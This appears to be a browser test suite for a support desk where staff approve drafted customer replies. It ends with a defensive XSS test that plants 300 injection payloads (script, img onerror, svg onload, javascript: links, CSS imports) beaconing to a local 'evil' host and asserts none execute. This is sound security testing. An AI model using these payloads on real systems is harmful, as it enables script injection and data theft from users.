"""Deciding in a real browser: with single keys, by two people, within the hold, and against hostile words."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from itertools import count
from typing import Any

import pytest

from tests.browser.conftest import CHROMIUM

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not CHROMIUM, reason="Chromium is not installed: apt-get install chromium, or set CHROMIUM=/path"
    ),
]

_numbers = count()


@pytest.fixture
def case(runtime: Any, session: dict[str, Any]) -> Any:
    """Makes a case that is drafted; `green` in its text makes all checks green."""
    from api import sample

    def make(text: str = "green kettle", **more: Any) -> str:
        import time

        ids = runtime.desk.receive(sample.first_admin(runtime), {"id": f"B-{next(_numbers)}", "text": text, **more})
        for _ in range(200):
            if runtime.views.draft(sample.first_admin(runtime), ids["draft"]).state != "pending":
                return f"{session['base']}/desk/{ids['case']}"
            time.sleep(0.05)
        raise AssertionError("no draft came")

    return make


def ready(page: Any, address: str) -> Any:
    page.goto(address)
    page.locator("body[data-ready=yes]").wait_for()
    return page


def state(runtime: Any, address: str) -> str:
    from api import sample

    return runtime.views.case(sample.first_admin(runtime), address.rpartition("/")[2]).draft.state


def test_one_key_approves_a_case_whose_checks_are_all_green(look: Any, case: Any, runtime: Any):
    address = case()
    page = ready(look(), address)
    page.keyboard.press("a")
    page.get_by_role("status").filter(has_text="Approved.").wait_for()
    assert state(runtime, address) == "approved"


def test_a_key_that_is_held_while_the_page_loads_does_nothing(look: Any, case: Any, session: Any, runtime: Any):
    address = case()
    page = ready(look(), session["base"] + "/desk")
    page.keyboard.down("a")
    page.goto(address)
    for _ in range(12):
        page.keyboard.down("a")
        page.wait_for_timeout(80)
    assert state(runtime, address) == "ready"
    page.keyboard.up("a")
    page.keyboard.press("a")
    page.get_by_role("status").filter(has_text="Approved.").wait_for()


def test_a_key_before_the_page_has_settled_does_nothing(look: Any, case: Any, runtime: Any):
    address = case()
    page = look()
    page.goto(address, wait_until="commit")
    page.keyboard.press("a")
    page.locator("body[data-ready=yes]").wait_for()
    assert state(runtime, address) == "ready"


def test_keys_are_only_letters_while_somebody_types_or_reads_the_help(look: Any, case: Any, runtime: Any):
    address = case()
    page = ready(look(), address)
    page.locator("#note").click()
    page.keyboard.type("a quick fact about u")
    page.keyboard.press("Escape")
    page.locator("h1").click()
    page.keyboard.press("?")
    page.get_by_role("dialog").wait_for()
    page.keyboard.press("a")
    assert state(runtime, address) == "ready"
    assert page.locator("#note").input_value() == "a quick fact about u"


def test_facts_that_have_to_be_read_are_opened_one_by_one_and_then_approval_is_allowed(
    look: Any, case: Any, runtime: Any
):
    address = case("a broken lamp")
    page = ready(look(), address)
    boxes = page.locator("#approve-form input[name=opened]")
    assert boxes.count() == 2
    page.keyboard.press("a")
    assert state(runtime, address) == "ready", "the first key only opens what is unread"
    page.keyboard.press("f")
    assert page.locator("#approve-form input[name=opened]:checked").count() == 2
    page.keyboard.press("a")
    assert page.locator("#approve").evaluate("e => e === document.activeElement")
    page.keyboard.press("Enter")
    page.get_by_role("status").filter(has_text="Approved.").wait_for()


def test_an_approval_is_undone_inside_the_hold_with_one_key(look: Any, case: Any, runtime: Any):
    address = case()
    page = ready(look(), address)
    page.keyboard.press("a")
    page.locator("#undo").wait_for()
    page.locator("body[data-ready=yes]").wait_for()
    page.keyboard.press("u")
    page.get_by_role("status").filter(has_text="undone").wait_for()
    assert state(runtime, address) == "ready"


def test_a_stale_draft_is_refused_and_the_page_says_so(look: Any, case: Any, runtime: Any):
    from api import sample

    address = case()
    page = ready(look(), address)
    runtime.desk.record_message(sample.first_admin(runtime), address.rpartition("/")[2], {"text": "And the lid."})
    page.keyboard.press("a")
    page.get_by_role("alert").wait_for()
    assert state(runtime, address) != "approved"


def test_what_two_people_edit_is_never_overwritten(look: Any, case: Any, runtime: Any):
    address = case()
    pages = [ready(look(java_script_enabled=True), address) for _ in range(2)]
    for number, page in enumerate(pages):
        page.keyboard.press("e")
        page.locator("#edit-text").fill(f"Dear Gareth, order FH-270114 is with us. Number {number}.")
    pages[0].keyboard.press("Control+Enter")
    pages[0].locator("[role=status], [role=alert]").filter(has_text="i").first.wait_for()
    pages[1].keyboard.press("Control+Enter")
    pages[1].get_by_role("alert").wait_for()
    kept = pages[1].content()
    assert "Number 1." in kept


def test_two_people_have_one_lease(look: Any, browser: Any, case: Any, runtime: Any, session: Any):
    from api import sample

    address = case()
    ready(look(), address)
    ruth = runtime.doors.add_principal(sample.first_admin(runtime), f"Ruth {next(_numbers)}", "reviewer")
    context = browser.new_context()
    second = context.new_page()
    second.goto(f"{session['base']}/signin?token={runtime.doors.make_link(ruth.id)}")
    second.goto(address)
    assert "Admin has this case open" in second.locator("#holder").inner_text()
    context.close()


def test_the_queue_follows_what_happens(look: Any, case: Any, session: Any):
    page = ready(look(), session["base"] + "/desk")
    case("green and brand new kettle 4711")
    page.get_by_role("link", name="brand new kettle 4711").wait_for(timeout=10_000)


def test_without_scripts_every_decision_is_a_plain_form(look: Any, case: Any, runtime: Any):
    address = case("a broken lamp")
    page = look(java_script_enabled=False)
    page.goto(address)
    page.get_by_role("button", name="Approve", exact=True).click()
    page.get_by_role("alert").filter(has_text="Open these before you approve").wait_for()
    for box in page.locator("#approve-form input[name=opened]").all():
        box.check()
    page.get_by_role("button", name="Approve", exact=True).click()
    page.get_by_role("status").filter(has_text="Approved.").wait_for()
    page.get_by_role("button", name="Undo").click()
    page.get_by_role("status").filter(has_text="undone").wait_for()
    page.get_by_label("Note for colleagues").fill("I called her.")
    page.get_by_role("button", name="Add note").click()
    page.get_by_text("Edit and approve").click()
    page.get_by_label("Your words").fill("Dear Gareth,\n\nyou paid 77,777.00 GBP.")
    page.get_by_role("button", name="Approve my words").click()
    page.get_by_role("alert").filter(has_text="77,777.00 GBP").wait_for()
    assert "77,777.00" in page.get_by_label("Your words").input_value()
    page.get_by_text("Send back with a hint").click()
    page.get_by_label("What should the next draft do otherwise?").fill("shorter")
    page.get_by_role("button", name="Send back").click()
    page.get_by_role("status").filter(has_text="Sent back.").wait_for()
    page.get_by_role("button", name="I write this one myself").click()
    page.get_by_role("status").filter(has_text="yours").wait_for()
    page.get_by_label("Your own answer").fill("Dear Gareth, I looked into it myself.")
    page.get_by_role("button", name="I sent this").click()
    page.get_by_role("status").filter(has_text="Noted as sent.").wait_for()


# --- hostile words ----------------------------------------------------------------------------------------------------


@pytest.fixture
def evil() -> Iterator[Any]:
    """A host that counts who asks it for anything."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that the library calls

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


SHAPES = (
    "<script>fetch('http://{h}/{n}')</script>", "<img src=http://{h}/{n}>", "<svg onload=fetch('//{h}/{n}')>",
    "\"><img src=x onerror=fetch('//{h}/{n}')>", "![x](http://{h}/{n})", "[x](javascript:fetch('//{h}/{n}'))",
    "<iframe src=http://{h}/{n}></iframe>", "<link rel=stylesheet href=//{h}/{n}>", "<style>@import '//{h}/{n}'</style>",
    "<body style=background:url(//{h}/{n})>", "{{{{ 7*7 }}}}<object data=//{h}/{n}>", "<meta http-equiv=refresh content=0;url=//{h}/{n}>",
    "' autofocus onfocus=fetch('//{h}/{n}') x='", "</textarea><script src=//{h}/{n}></script>", "<video poster=//{h}/{n}>",
    "</title><script src=//{h}/{n}></script>", "<form action=//{h}/{n}><button>", "<base href=//{h}/{n}>",
    "<a href=//{h}/{n} ping=//{h}/{n}>", "&lt;script src=//{h}/{n}&gt;", "<details open ontoggle=fetch('//{h}/{n}')>",
    "<math><mtext><img src=//{h}/{n}>", "<template><img src=//{h}/{n}></template>", "<!--><img src=//{h}/{n}>-->",
    "\u202e<img src=//{h}/{n}>",
)  # fmt: skip


def test_three_hundred_payloads_in_every_field_of_a_customer_stay_text(
    look: Any, case: Any, evil: Any, session: Any, runtime: Any
):
    from api import sample

    host, asked = evil
    payloads = [shape.format(h=host, n=n) for n in range(12) for shape in SHAPES]
    assert len(payloads) == 300
    page = look()
    foreign: list[str] = []
    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(session["base"]) else None)
    page.on("dialog", lambda d: foreign.append(d.message))
    admin = sample.first_admin(runtime)
    for start in range(0, 300, 30):
        some = payloads[start : start + 30]
        order = {
            "id": some[0],
            "status": some[1],
            "customer_name": some[2],
            "items": [{"sku": some[3], "name": some[4]}],
        }
        address = case(
            "",
            messages=[{"text": "green " + p, "subject": p} for p in some],
            order_ref=some[5][:90],
            customer={"name": some[6], "email": some[7][:200]},
            context={"order": order},
            channel="x",
        )
        runtime.desk.add_note(admin, address.rpartition("/")[2], "\n".join(some))
        ready(page, address)
        assert (
            page.locator("main script, main iframe, main img, main object, main link, main style, main base").count()
            == 0
        )
    for path in ("/desk", "/desk?q=%3Cscript%3E", "/admin/log"):
        ready(page, session["base"] + path)
    assert foreign == []
    assert asked == []
